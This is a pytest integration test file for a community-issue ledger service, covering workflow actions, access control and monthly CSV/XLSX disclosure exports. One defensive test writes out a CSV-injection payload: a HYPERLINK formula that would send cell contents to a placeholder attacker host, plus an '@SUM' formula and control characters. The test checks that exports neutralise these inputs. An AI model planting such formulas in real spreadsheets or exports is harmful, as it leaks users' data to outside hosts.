"""The ledger's HTTP API with its real lifespan (RabbitMQ, Redis, a SQLite file)."""

from __future__ import annotations

import datetime as dt

import pytest
from fastapi.testclient import TestClient

from services.contracts import Envelope, events
from services.ledger import handlers
from services.ledger.app import spec
from services.runtime import auth
from services.runtime.service import create_app
from services.runtime.settings import get_settings

pytestmark = pytest.mark.integration


@pytest.fixture(autouse=True)
def _own_vhost(vhost, monkeypatch):
    """The app's bus declares and publishes in a private vhost, never in the default one `make run` uses."""
    monkeypatch.setenv("HALL_AMQP_URL", vhost)


NOW = dt.datetime.now(dt.UTC)


@pytest.fixture
def client(tmp_path, monkeypatch):
    monkeypatch.setenv("HALL_VAR_DIR", str(tmp_path))
    monkeypatch.setenv("LEDGER_DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'ledger.db'}")
    get_settings.cache_clear()
    with TestClient(create_app(spec())) as c:
        yield c
    get_settings.cache_clear()


def token(role: str, community: str = "jinshan", sub: str | None = None) -> dict[str, str]:
    t = auth.mint(sub=sub or f"{role}_1", role=role, communities=[community], unit="江西恒泰物业服务有限公司")
    return {"Authorization": f"Bearer {t}"}


def feed(client: TestClient, handler, type: str, data, subject: str) -> None:
    """Run one handler inside the app's event loop, as the consumer would."""
    ctx = client.app.state.ctx
    env = Envelope.new(type=type, source="/services/test", community="jinshan", subject=subject, data=data)

    async def go() -> None:
        async with ctx.bus.uow(cause=env) as uow:
            await handler(uow, env, data)
            await uow.commit()

    client.portal.call(go)


def outbox(client: TestClient) -> list[Envelope]:
    ctx = client.app.state.ctx

    async def go() -> list[Envelope]:
        async with ctx.db.session() as s:
            t = ctx.bus.tables.outbox
            rows = (await s.exec(t.select().order_by(t.c.id))).all()
        return [Envelope.from_bytes(r.body) for r in rows]

    return client.portal.call(go)


def direct_entry(client: TestClient, matter_id: str = "mat_api_1", title: str = "景湖花园5号楼楼道灯不亮") -> str:
    data = events.MatterTriaged(
        matter_id=matter_id,
        report_ids=["rpt_1"],
        title=title,
        place=events.Place(compound="jinghuhuayuan", building="5"),
        kind="problem",
        category="lighting",
        level="green",
        route="direct",
        confidence=0.9,
        triaged_at=NOW,
    )
    feed(client, handlers.on_matter_triaged, "matter.triaged.v1", data, matter_id)
    r = client.get("/v1/entries", headers=token("party_org"))
    assert r.status_code == 200, r.text
    return next(e["id"] for e in r.json()["items"] if e["matter_id"] == matter_id)


def act(client: TestClient, entry_id: str, action: str, headers: dict, **body):
    return client.post(f"/v1/entries/{entry_id}/actions/{action}", json=body or None, headers=headers)


def test_start_progress_complete_emits_task_completed(client):
    eid = direct_entry(client)
    pc = token("property_company")
    r = act(client, eid, "start", pc)
    assert r.status_code == 200, r.text
    assert r.json()["state"] == "in_progress"
    r = act(client, eid, "progress", pc)
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "note"
    r = act(client, eid, "progress", pc, note="已采购灯具", photos=["https://img.example/1.jpg"])
    assert r.status_code == 200 and r.json()["state"] == "in_progress"
    r = act(client, eid, "complete", pc, note="已更换全部灯具")
    body = r.json()
    assert r.status_code == 200 and body["state"] == "completed" and body["completed_at"]
    assert body["available_actions"] == [] and body["deadline_status"] == "done"
    assert [t["action"] for t in body["timeline"]] == ["register", "assign", "start", "progress", "complete"]
    assert body["timeline"][3]["actor"] == "property_company_1"
    assert body["timeline"][3]["photos"] == ["https://img.example/1.jpg"]
    # In English: the ledger's own sentences in words, a person's note as they typed it.
    assert body["timeline"][0]["note_en"] == "Entered in the ledger"
    assert body["timeline"][1]["note_en"].startswith("Assigned at once by category: ")
    assert body["timeline"][2]["note_en"] == "Claimed and started"
    assert body["timeline"][3]["note_en"] == "已采购灯具"
    assert body["measures_en"] == "Handled directly by the unit responsible (everyday problems are fixed at once)"
    types = [(e.type, e.subject) for e in outbox(client)]
    assert types == [
        ("entry.assigned.v1", "mat_api_1"),
        ("entry.progressed.v1", "mat_api_1"),
        ("entry.progressed.v1", "mat_api_1"),
        ("entry.completed.v1", "mat_api_1"),
    ]
    done = outbox(client)[-1]
    assert done.data["state"] == "completed" and done.data["actor"] == "property_company_1"
    figures = client.get("/v1/figures", params={"community": "jinshan"}, headers=token("party_org")).json()
    assert figures["entries"] == 1 and figures["completion_rate"] == 1.0 and figures["on_time_rate"] == 1.0


def test_close_before_evaluation_is_409_with_allowed_actions(client):
    eid = direct_entry(client)
    act(client, eid, "start", token("property_company"))
    act(client, eid, "complete", token("property_company"), note="已修复")
    r = act(client, eid, "close", token("party_org"))
    assert r.status_code == 409
    assert r.headers["content-type"].startswith("application/problem+json")
    body = r.json()
    assert body["allowed"] == ["evaluate_satisfied", "evaluate_unsatisfied"]
    assert "evaluate_satisfied" in body["detail"] and body["state"] == "completed"
    assert client.get(f"/v1/entries/{eid}", headers=token("party_org")).json()["state"] == "completed"


def test_other_community_sees_nothing(client):
    eid = direct_entry(client)
    other = token("party_org", community="xueyuan")
    assert client.get(f"/v1/entries/{eid}", headers=other).status_code == 404
    assert act(client, eid, "start", token("property_company", community="xueyuan")).status_code == 404
    assert client.get("/v1/entries", headers=other).json()["items"] == []
    assert client.get("/v1/entries", params={"community": "jinshan"}, headers=other).status_code == 403
    assert client.get(f"/v1/entries/{eid}", headers=token("party_org")).json()["state"] == "assigned"


def test_only_party_org_closes(client):
    eid = direct_entry(client)
    act(client, eid, "start", token("property_company"))
    act(client, eid, "complete", token("property_company"), note="已修复")
    evaluation = events.EvaluationRecorded(
        evaluation_id="evl_1",
        matter_id="mat_api_1",
        round=1,
        method="home_visit",
        rating="satisfied",
        household_ref="hh_1",
        round_outcome="satisfied",
        recorded_at=NOW,
    )
    feed(client, handlers.on_evaluation_recorded, "evaluation.recorded.v1", evaluation, "mat_api_1")
    r = act(client, eid, "close", token("property_company"))
    assert r.status_code == 403
    r = act(client, eid, "close", token("party_org"))
    assert r.status_code == 200, r.text
    assert r.json()["state"] == "closed" and r.json()["closed_at"]
    closed = outbox(client)[-1]
    assert closed.type == "matter.closed.v1" and closed.data["entry_id"] == eid
    assert client.post(f"/v1/entries/{eid}/actions/close").status_code == 401


def test_disclosure_exports_carry_no_formula_and_survive_control_characters(client):
    """OWASP CSV injection: formula-leading cells get `'` in CSV and stay strings in XLSX; XLSX never 500s."""
    import csv
    import io

    import openpyxl

    hostile = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'
    eid = direct_entry(client, title=hostile)
    direct_entry(client, "mat_api_2", title="@SUM(1+1)\x01景湖花园路灯不亮\x0b")
    pc = token("property_company")
    assert act(client, eid, "start", pc).status_code == 200
    assert act(client, eid, "progress", pc, note="已采购灯具\x01\x0b").status_code == 200
    month = dt.datetime.now(dt.timezone(dt.timedelta(hours=8))).strftime("%Y-%m")
    po = token("party_org")
    assert client.post("/v1/disclosures", json={"community": "jinshan", "month": month}, headers=po).status_code == 201

    got = client.get(f"/v1/disclosures/jinshan/{month}.csv", headers=po)
    assert got.status_code == 200
    rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert cells and not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    assert any(c.startswith("'@SUM(1+1)") for c in cells) and not any("\x01" in c for c in cells)

    got = client.get(f"/v1/disclosures/jinshan/{month}.xlsx", headers=po)
    assert got.status_code == 200, got.text
    ws = openpyxl.load_workbook(io.BytesIO(got.content)).worksheets[0]
    text = [cell for row in ws.iter_rows(min_row=3) for cell in row if isinstance(cell.value, str)]
    assert text and all(cell.data_type == "s" for cell in text)  # strings, never formulas
    leading = [cell for cell in text if cell.value.startswith(("=", "+", "-", "@"))]
    assert leading and all(cell.quotePrefix for cell in leading)  # Excel keeps them text even when edited


def test_out_of_range_months_are_422_naming_the_field(client):
    po = token("party_org")
    for month in ("9999-12", "0001-01"):
        r = client.get("/v1/figures", params={"month": month}, headers=po)
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "month", r.text
        r = client.post("/v1/disclosures", json={"community": "jinshan", "month": month}, headers=po)
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "month", r.text
        assert r.headers["content-type"].startswith("application/problem+json")
